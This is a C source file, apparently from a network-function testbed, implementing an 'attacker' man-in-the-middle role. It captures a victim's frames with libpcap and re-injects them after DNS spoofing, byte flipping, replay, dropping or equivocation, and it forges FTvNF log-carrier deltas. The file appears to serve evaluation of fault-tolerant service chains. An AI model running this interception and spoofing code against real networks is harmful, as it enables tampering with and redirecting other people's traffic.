/* mitm — the attacker guest's role: captures the frames the injector steers to its interface
 * with libpcap (promiscuous, inbound only, filtered on the victim's MAC), rewrites them and
 * re-injects them with pcap_inject. FTvNF's log carriers (NSH next protocol 0xFF) are
 * understood: the packet inside, the one that goes on, is what gets rewritten. Modes:
 * dns-spoof (forged A records), flip (one payload byte inverted), replay (every frame
 * forwarded, plus an old one re-sent: a carrier too, whole), drop (lost), equivocate
 * (receivers with an odd MAC get flipped copies, the others the truth). --fraction says which
 * share of frames is attacked, drawn per frame from a seeded generator. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "vnfs/lib/byteorder.h"
#include "vnfs/lib/dl_pcap.h"
#include "vnfs/lib/dns.h"
#include "vnfs/lib/loop.h"
#include "vnfs/lib/nsh.h"
#include "vnfs/lib/packet.h"
#include "vnfs/lib/util.h"
#include "vnfs/ft/rng.h"
#include "vnfs/ft/ftvnf/ftvnf.h"
#include "vnfs/ft/nham/nham.h"
#include "vnfs/sfc/mitm.h"
#include "vnfs/sfc/nhamfrag.h"
#include "vnfs/sfc/role.h"
#include "vnfs/sfc/roles.h"
#include "vnfs/sfc/wrap.h"

#define MITM_SNAPLEN 65535
#define MITM_REPLAY_RING 16

/* The innermost Ethernet frame: after the NSH header for NSH frames, after the wrap header for
 * a FIT-SFC wrapper's requests (vnfs/sfc/wrap.h), after NHAM's DATA header and the NSH header
 * it carries (the packet between NHAM's SFF and a VNF copy: no seal covers it). */
static int
inner_frame(uint8_t *frame, size_t len, uint8_t **innerp, size_t *lenp)
{
    struct nsh_hdr hdr;

    if (len < PACKET_ETH_HLEN) {
        return EINVAL;
    }
    if (frame[12] == NHAM_ETHERTYPE >> 8 && frame[13] == (NHAM_ETHERTYPE & 0xff)) {
        /* The wrapper's frames share the ethertype (wrap.h): one that is no DATA message is
         * looked at as the others below. */
        struct nham_data d;

        if (nham_data_parse(frame + PACKET_ETH_HLEN, len - PACKET_ETH_HLEN, &d)
            && !nsh_decode(d.payload, d.payload_len, &hdr, NULL)
            && hdr.next_proto == NSH_NP_ETHERNET && d.payload_len >= hdr.len) {
            /* The payload is the frame's own tail: rewritten in place. */
            *innerp = frame + (d.payload - frame) + hdr.len;
            *lenp = d.payload_len - hdr.len;
            return 0;
        }
    }
    if (frame[12] == NSH_ETHERTYPE >> 8 && frame[13] == (NSH_ETHERTYPE & 0xff)) {
        if (nsh_decode(frame + PACKET_ETH_HLEN, len - PACKET_ETH_HLEN, &hdr, NULL)
            || hdr.next_proto != NSH_NP_ETHERNET) {
            return EINVAL;
        }
        *innerp = frame + PACKET_ETH_HLEN + hdr.len;
        *lenp = len - PACKET_ETH_HLEN - hdr.len;
        return 0;
    }
    if (frame[12] == WRAP_ETHERTYPE >> 8 && frame[13] == (WRAP_ETHERTYPE & 0xff)) {
        /* A FIT-SFC client wrapper's request to a classifier replica. */
        struct wrap_hdr w;

        if (!wrap_parse(frame, len, &w)) {
            return EINVAL;
        }
        *innerp = frame + (w.inner - frame);
        *lenp = w.inner_len;
        return 0;
    }
    *innerp = frame;
    *lenp = len;
    return 0;
}

int
mitm_carrier_parse(const uint8_t *frame, size_t len, struct buf *bytes,
                   struct mitm_carrier *mc)
{
    struct nsh_hdr hdr;
    struct nsh_tlv tlv;
    struct mitm_carrier m;

    if (len < PACKET_ETH_HLEN || frame[12] != NSH_ETHERTYPE >> 8
        || frame[13] != (NSH_ETHERTYPE & 0xff)
        || nsh_decode(frame + PACKET_ETH_HLEN, len - PACKET_ETH_HLEN, &hdr, NULL)
        || hdr.next_proto != NSH_NP_EXPERIMENT2) {
        return ENOENT;
    }
    if (!nsh_tlv_find(&hdr, NSH_CLASS_SFCLAB, NSH_TLV_PACKET_ID, &tlv) || tlv.len != 8) {
        return EINVAL;
    }
    /* What ftvnf_carry_parse takes: the carrier's first word (in the TLV) and the rest. */
    m.rest_ofs = PACKET_ETH_HLEN + hdr.len;
    buf_clear(bytes);
    buf_put(bytes, tlv.value, 8);
    buf_put(bytes, frame + m.rest_ofs, len - m.rest_ofs);
    if (!ftvnf_carry_parse(bytes->data, bytes->len, &m.c)) {
        return EINVAL;
    }
    m.delta = NULL;
    for (size_t i = 0; i < m.c.n_recs && !m.delta; i++) {
        m.delta = m.c.recs[i].type == FTVNF_LOG_PKT ? &m.c.recs[i] : NULL;
    }
    /* A LOG_PKT record is id(8) flag(1) delta (vnfs/ft/ftvnf/ftvnf.h). */
    if (m.delta && m.delta->len < 9) {
        return EINVAL;
    }
    m.payload_ofs = m.rest_ofs + (m.c.payload - bytes->data) - 8;
    *mc = m;
    if (m.delta) {
        mc->delta = &mc->c.recs[m.delta - m.c.recs];
    }
    return 0;
}

int
mitm_carrier_output(const uint8_t *frame, size_t len, struct buf *out)
{
    struct buf bytes = BUF_INITIALIZER;
    struct mitm_carrier mc;
    int error;

    error = mitm_carrier_parse(frame, len, &bytes, &mc);
    if (!error) {
        buf_clear(out);
        buf_put(out, mc.c.payload, mc.c.len);
        if (mc.delta && ftvnf_delta_apply(out, mc.delta->body + 9, mc.delta->len - 9)) {
            error = EINVAL;
        }
    }
    buf_uninit(&bytes);
    return error;
}

/* A rewrite of one Ethernet frame in place (the innermost one). */
typedef int mitm_rewrite_fn(uint8_t *inner, size_t len, void *aux);

/* Rewrites the packet an FTvNF log carrier's last logger sends on (ENOENT if 'frame' is no
 * carrier). Without a LOG_PKT record that is the carried packet, rewritten in place, as in a
 * plain NSH frame (the loggers store it as it now is, and the slave replays it). With one, it
 * is the carried packet with the record's delta applied: the attacker rebuilds it, rewrites
 * it and puts its delta from the carried packet in the record, which leaves the carried
 * packet (what the slave replays) as it was and changes what goes on, exactly as a master
 * whose output was forged would. The frame may grow or shrink; E2BIG if it would exceed
 * 'cap'. '*lenp' and the frame are untouched unless the result is 0. */
static int
carrier_rewrite(uint8_t *frame, size_t *lenp, size_t cap, mitm_rewrite_fn *fn, void *aux)
{
    struct buf bytes = BUF_INITIALIZER, out = BUF_INITIALIZER, rec = BUF_INITIALIZER;
    struct buf carrier = BUF_INITIALIZER;
    struct mitm_carrier mc;
    int error;

    error = mitm_carrier_parse(frame, *lenp, &bytes, &mc);
    if (error) {
        goto out;
    }
    buf_put(&out, mc.c.payload, mc.c.len);
    if (!mc.delta) {
        error = fn(out.data, out.len, aux);
        if (!error) {
            memcpy(frame + mc.payload_ofs, out.data, out.len);
        }
        goto out;
    }
    if (ftvnf_delta_apply(&out, mc.delta->body + 9, mc.delta->len - 9)) {
        error = EINVAL;
        goto out;
    }
    error = fn(out.data, out.len, aux);
    if (error) {
        goto out;
    }
    buf_put(&rec, mc.delta->body, 9);
    ftvnf_delta_make(&rec, mc.c.payload, mc.c.len, out.data, out.len);
    if (rec.len > UINT16_MAX) {
        error = E2BIG;
        goto out;
    }
    struct ftvnf_carry_rec *r = &mc.c.recs[mc.delta - mc.c.recs];
    r->body = rec.data;
    r->len = rec.len;
    ftvnf_carry_put(&carrier, &mc.c);
    if (mc.rest_ofs + carrier.len - 8 > cap) {
        error = E2BIG;
        goto out;
    }
    memcpy(frame + mc.rest_ofs, carrier.data + 8, carrier.len - 8);
    *lenp = mc.rest_ofs + carrier.len - 8;
out:
    buf_uninit(&bytes);
    buf_uninit(&out);
    buf_uninit(&rec);
    buf_uninit(&carrier);
    return error;
}

/* Applies 'fn' to the innermost frame of 'frame': an FTvNF carrier's packet, or NSH's, or a
 * wrapper's, or the frame itself. */
static int
rewrite(uint8_t *frame, size_t *lenp, size_t cap, mitm_rewrite_fn *fn, void *aux)
{
    uint8_t *inner;
    size_t inner_len;
    int error;

    error = carrier_rewrite(frame, lenp, cap, fn, aux);
    if (error != ENOENT) {
        return error;
    }
    error = inner_frame(frame, *lenp, &inner, &inner_len);
    return error ? error : fn(inner, inner_len, aux);
}

/* Skips a (possibly compressed) name at msg[*ofs]; false if it runs past 'len'. */
static bool
skip_name(const uint8_t *msg, size_t len, size_t *ofs)
{
    while (*ofs < len) {
        uint8_t c = msg[*ofs];

        if ((c & 0xc0) == 0xc0) {
            *ofs += 2;
            return *ofs <= len;
        }
        if (c & 0xc0) {
            return false;
        }
        *ofs += 1 + c;
        if (!c) {
            return *ofs <= len;
        }
    }
    return false;
}

struct spoof_aux {
    uint32_t ip_be;
    size_t n;
};

static int
dns_spoof_inner(uint8_t *inner, size_t inner_len, void *aux_)
{
    struct spoof_aux *aux = aux_;
    struct packet_info pi;
    struct dns_response resp;
    uint8_t *msg, *orig = NULL;
    size_t msg_len, ofs = DNS_HEADER_LEN, n = 0;
    unsigned int qd, an;
    int error;

    error = packet_parse(inner, inner_len, &pi);
    if (error) {
        return error == EPROTONOSUPPORT ? ENOENT : error;
    }
    if (pi.flow.proto != 17 || !pi.has_ports || pi.flow.src_port != htons(DNS_PORT)) {
        return ENOENT;
    }
    msg = inner + pi.l7_ofs;
    msg_len = pi.l7_len;
    if (dns_parse_response(msg, msg_len, &resp)) {
        return EINVAL;
    }
    if (!resp.n_addrs) {
        return ENOENT;
    }
    /* The message parsed strictly; the walk below still checks every bound. A name may point
     * into an address about to be rewritten (legal compression, if perverse): the original is
     * kept so that a rewrite that no longer parses, or parses to another address, is undone
     * rather than sent as a packet no resolver would take as an answer. */
    orig = xmalloc(msg_len);
    memcpy(orig, msg, msg_len);
    qd = get_be16(msg + 4);
    an = get_be16(msg + 6);
    error = EINVAL;
    for (unsigned int i = 0; i < qd; i++) {
        if (!skip_name(msg, msg_len, &ofs) || (ofs += 4) > msg_len) {
            goto out;
        }
    }
    for (unsigned int i = 0; i < an; i++) {
        uint16_t type, class, rdlen;

        if (!skip_name(msg, msg_len, &ofs) || ofs + 10 > msg_len) {
            goto out;
        }
        type = get_be16(msg + ofs);
        class = get_be16(msg + ofs + 2);
        rdlen = get_be16(msg + ofs + 8);
        ofs += 10;
        if (ofs + rdlen > msg_len) {
            goto out;
        }
        if (type == DNS_TYPE_A && class == DNS_CLASS_IN && rdlen == 4) {
            memcpy(msg + ofs, &aux->ip_be, 4);
            n++;
        }
        ofs += rdlen;
    }
    if (!n) {
        error = ENOENT;
        goto out;
    }
    if (dns_parse_response(msg, msg_len, &resp) || !resp.n_addrs) {
        goto out;
    }
    for (size_t i = 0; i < resp.n_addrs && i < DNS_MAX_ADDRS; i++) {
        if (resp.addrs[i] != aux->ip_be) {
            goto out;
        }
    }
    packet_fix_csums(inner, &pi);
    aux->n = n;
    error = 0;

out:
    if (error && n) {
        memcpy(msg, orig, msg_len);
    }
    free(orig);
    return error;
}

int
mitm_dns_spoof(uint8_t *frame, size_t *lenp, size_t cap, uint32_t spoof_ip_be, size_t *np)
{
    struct spoof_aux aux = { .ip_be = spoof_ip_be };
    int error = rewrite(frame, lenp, cap, dns_spoof_inner, &aux);

    if (!error && np) {
        *np = aux.n;
    }
    return error;
}

static int
flip_inner(uint8_t *inner, size_t inner_len, void *rng)
{
    struct packet_info pi;
    int error;

    error = packet_parse(inner, inner_len, &pi);
    if (error) {
        return error == EPROTONOSUPPORT ? ENOENT : error;
    }
    if (!pi.has_ports || !pi.l7_len) {
        return ENOENT;
    }
    inner[pi.l7_ofs + ft_rng_below(rng, pi.l7_len)] ^= 0xff;
    packet_fix_csums(inner, &pi);
    return 0;
}

int
mitm_flip(uint8_t *frame, size_t *lenp, size_t cap, struct ft_rng *rng)
{
    return rewrite(frame, lenp, cap, flip_inner, rng);
}

enum mitm_mode { MITM_DNS_SPOOF, MITM_FLIP, MITM_REPLAY, MITM_DROP, MITM_EQUIVOCATE };
const char *const mitm_mode_names[] = {
    "dns-spoof", "flip", "replay", "drop", "equivocate", NULL
};

struct mitm {
    struct role role;
    pcap_t *pcap;
    enum mitm_mode mode;
    double fraction;
    uint32_t spoof_ip;
    struct ft_rng rng;
    uint8_t frame[MITM_SNAPLEN];
    uint8_t *ring[MITM_REPLAY_RING];
    size_t ring_len[MITM_REPLAY_RING];
    size_t ring_next;
    uint64_t n_seen, n_forwarded, n_spoofed, n_flipped, n_replayed, n_dropped, n_errors;
};

static void
send_frame(struct mitm *m, const uint8_t *frame, size_t len)
{
    if (dl_pcap.pcap_inject(m->pcap, frame, len) == (int) len) {
        m->n_forwarded++;
    } else {
        m->n_errors++;
    }
}

static void
remember(struct mitm *m, const uint8_t *frame, size_t len)
{
    size_t i = m->ring_next++ % MITM_REPLAY_RING;

    free(m->ring[i]);
    m->ring[i] = xmalloc(len);
    memcpy(m->ring[i], frame, len);
    m->ring_len[i] = len;
}

static void
on_frame(u_char *m_, const struct pcap_pkthdr *h, const u_char *bytes)
{
    struct mitm *m = (struct mitm *) m_;
    size_t len = h->caplen;
    bool attack;

    m->n_seen++;
    if (h->caplen != h->len || len > sizeof m->frame) {
        m->n_errors++;          /* Truncated capture: forwarding it would corrupt it. */
        return;
    }
    memcpy(m->frame, bytes, len);
    attack = ft_rng_chance(&m->rng, m->fraction);
    switch (m->mode) {
    case MITM_DNS_SPOOF:
        m->n_spoofed += attack && !mitm_dns_spoof(m->frame, &len, sizeof m->frame, m->spoof_ip,
                                                  NULL);
        break;
    case MITM_FLIP:
        m->n_flipped += attack && !mitm_flip(m->frame, &len, sizeof m->frame, &m->rng);
        break;
    case MITM_EQUIVOCATE:
        m->n_flipped += attack && (m->frame[5] & 1)
                        && !mitm_flip(m->frame, &len, sizeof m->frame, &m->rng);
        break;
    case MITM_DROP:
        if (attack) {
            m->n_dropped++;
            return;
        }
        break;
    case MITM_REPLAY:
        if (attack && m->ring_next) {
            /* The oldest frame kept: the furthest in the past. */
            size_t i = m->ring_next < MITM_REPLAY_RING ? 0 : m->ring_next % MITM_REPLAY_RING;
            send_frame(m, m->ring[i], m->ring_len[i]);
            m->n_replayed++;
        }
        remember(m, m->frame, len);
        break;
    }
    send_frame(m, m->frame, len);
}

static void
mitm_readable(struct loop *loop, int fd, uint32_t events, void *m_)
{
    struct mitm *m = m_;

    if (dl_pcap.pcap_dispatch(m->pcap, 256, on_frame, (u_char *) m) < 0) {
        log_err("pcap: %s", dl_pcap.pcap_geterr(m->pcap));
        loop_stop(loop);
    }
}

static int
open_pcap(struct mitm *m, const char *victim_mac)
{
    char errbuf[PCAP_ERRBUF_SIZE] = "";
    struct bpf_program prog;
    char *filter = NULL;
    int error = dl_pcap_load();

    if (error) {
        return error;
    }
    error = EIO;
    m->pcap = dl_pcap.pcap_create(m->role.iface, errbuf);
    if (!m->pcap) {
        log_err("%s: %s", m->role.iface, errbuf);
        return ENODEV;
    }
    if (dl_pcap.pcap_set_promisc(m->pcap, 1) || dl_pcap.pcap_set_snaplen(m->pcap, MITM_SNAPLEN)
        || dl_pcap.pcap_set_immediate_mode(m->pcap, 1) || dl_pcap.pcap_activate(m->pcap) < 0) {
        log_err("%s: %s", m->role.iface, dl_pcap.pcap_geterr(m->pcap));
        goto out;
    }
    /* Outbound frames are our own injections: never capture them again. */
    if (dl_pcap.pcap_setdirection(m->pcap, PCAP_D_IN)
        || dl_pcap.pcap_setnonblock(m->pcap, 1, errbuf)) {
        log_err("%s: %s", m->role.iface, *errbuf ? errbuf : dl_pcap.pcap_geterr(m->pcap));
        goto out;
    }
    if (victim_mac) {
        filter = xasprintf("ether src %s", victim_mac);
        if (dl_pcap.pcap_compile(m->pcap, &prog, filter, 1, PCAP_NETMASK_UNKNOWN)
            || dl_pcap.pcap_setfilter(m->pcap, &prog)) {
            log_err("filter '%s': %s", filter, dl_pcap.pcap_geterr(m->pcap));
            goto out;
        }
        dl_pcap.pcap_freecode(&prog);
    }
    error = 0;
out:
    free(filter);
    return error;
}

static void
usage(void)
{
    printf("usage: sfcd mitm --iface IF --mode MODE\n"
           "                 [--victim-mac MAC] [--fraction F] [--spoof-ip IP] [--seed N]\n"
           "  --mode MODE       one of");
    for (size_t i = 0; mitm_mode_names[i]; i++) {
        printf("%s %s", i ? "," : "", mitm_mode_names[i]);
    }
    printf("\n"
           "  --victim-mac MAC  attack only frames from this MAC\n"
           "  --fraction F      share of frames attacked (default 1)\n"
           "  --spoof-ip IP     dns-spoof: the forged A record (default 6.6.6.6)\n"
           "  --seed N          seed of the per-frame draws (default: from the clock)\n"
           ROLE_COMMON_USAGE);
}

int
role_mitm(int argc, char *argv[])
{
    static const struct option options[] = {
        { "mode", required_argument, NULL, 'm' },
        { "victim-mac", required_argument, NULL, 'v' },
        { "fraction", required_argument, NULL, 'f' },
        { "spoof-ip", required_argument, NULL, 's' },
        { "seed", required_argument, NULL, 'S' },
        { "help", no_argument, NULL, 'h' },
        ROLE_COMMON_LONGOPTS,
        { NULL, 0, NULL, 0 },
    };
    const char *victim_mac = NULL;
    uint64_t seed = time_mono_ns();
    uint8_t mac[ETH_ADDR_LEN];
    int opt, error, rc = 2;
    bool have_mode = false;
    struct mitm *m;
    char *end;

    m = xzalloc(sizeof *m);
    m->fraction = 1;
    packet_parse_ipv4("6.6.6.6", &m->spoof_ip);
    role_init_common(&m->role, "mitm");
    m->role.aux = m;
    optind = 1;
    while ((opt = getopt_long(argc, argv, "h", options, NULL)) != -1) {
        switch (opt) {
        case 'm':
            have_mode = false;
            for (size_t i = 0; mitm_mode_names[i]; i++) {
                if (!strcmp(optarg, mitm_mode_names[i])) {
                    m->mode = i;
                    have_mode = true;
                }
            }
            if (!have_mode) {
                fprintf(stderr, "sfcd mitm: --mode: '%s' is not one of", optarg);
                for (size_t i = 0; mitm_mode_names[i]; i++) {
                    fprintf(stderr, "%s %s", i ? "," : "", mitm_mode_names[i]);
                }
                fprintf(stderr, "\n");
                goto out;
            }
            break;
        case 'v':
            if (!packet_parse_mac(optarg, mac)) {
                fprintf(stderr, "sfcd mitm: --victim-mac: '%s' is not a MAC\n", optarg);
                goto out;
            }
            victim_mac = optarg;
            break;
        case 'f':
            m->fraction = strtod(optarg, &end);
            if (*end || end == optarg || !(m->fraction > 0 && m->fraction <= 1)) {
                fprintf(stderr, "sfcd mitm: --fraction: '%s' is not in (0, 1]\n", optarg);
                goto out;
            }
            break;
        case 's':
            if (!packet_parse_ipv4(optarg, &m->spoof_ip)) {
                fprintf(stderr, "sfcd mitm: --spoof-ip: '%s' is not an address\n", optarg);
                goto out;
            }
            break;
        case 'S':
            seed = strtoull(optarg, &end, 0);
            if (*end || end == optarg) {
                fprintf(stderr, "sfcd mitm: --seed: '%s' is not a number\n", optarg);
                goto out;
            }
            break;
        default:
            if (role_parse_option(&m->role, opt, optarg, usage, &rc)) {
                goto out;
            }
        }
    }
    if (optind != argc || !have_mode || !m->role.iface) {
        usage();
        goto out;
    }
    rc = 1;
    ft_rng_init(&m->rng, seed);
    error = open_pcap(m, victim_mac);
    if (error) {
        goto out;
    }
    role_add_counter(&m->role, "seen", &m->n_seen);
    role_add_counter(&m->role, "forwarded", &m->n_forwarded);
    role_add_counter(&m->role, "spoofed", &m->n_spoofed);
    role_add_counter(&m->role, "flipped", &m->n_flipped);
    role_add_counter(&m->role, "replayed", &m->n_replayed);
    role_add_counter(&m->role, "dropped", &m->n_dropped);
    role_add_counter(&m->role, "errors", &m->n_errors);
    rc = role_serve_fd(&m->role, dl_pcap.pcap_get_selectable_fd(m->pcap), mitm_readable);
out:
    role_finish(&m->role);
    if (m->pcap) {
        dl_pcap.pcap_close(m->pcap);
    }
    for (size_t i = 0; i < MITM_REPLAY_RING; i++) {
        free(m->ring[i]);
    }
    free(m);
    return rc;
}
